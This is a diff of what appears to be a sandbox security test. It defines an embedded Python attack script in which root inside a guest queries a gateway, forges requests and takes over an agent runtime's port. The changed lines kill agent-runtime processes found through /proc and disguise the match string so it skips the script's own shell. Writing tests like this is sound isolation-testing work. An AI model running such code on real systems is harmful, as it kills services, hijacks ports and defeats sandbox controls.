@@ -8,7 +8,7 @@ const world = useSessionWorld({
 });
 
 /** Root in the guest asks the gateway, forges what it can, and takes over the runtime's port. */
-const ATTACK = `python3 - <<'PYTHON'
+const ATTACK = `python3 -u - <<'PYTHON'
 import json, os, signal, socket, time, urllib.request, urllib.error
 
 def ask(path, headers, body=b'{}'):
@@ -29,7 +29,8 @@ for pid in filter(str.isdigit, os.listdir('/proc')):
         command = open(f'/proc/{pid}/cmdline', 'rb').read()
     except OSError:
         continue
-    if b'agent-runtime' in command and int(pid) != os.getpid():
+    # Written so that it does not match the shell that runs this.
+    if b'svc/agent-' + b'runtime' in command:
         os.kill(int(pid), signal.SIGKILL)
 deadline = time.time() + 20
 while time.time() < deadline:
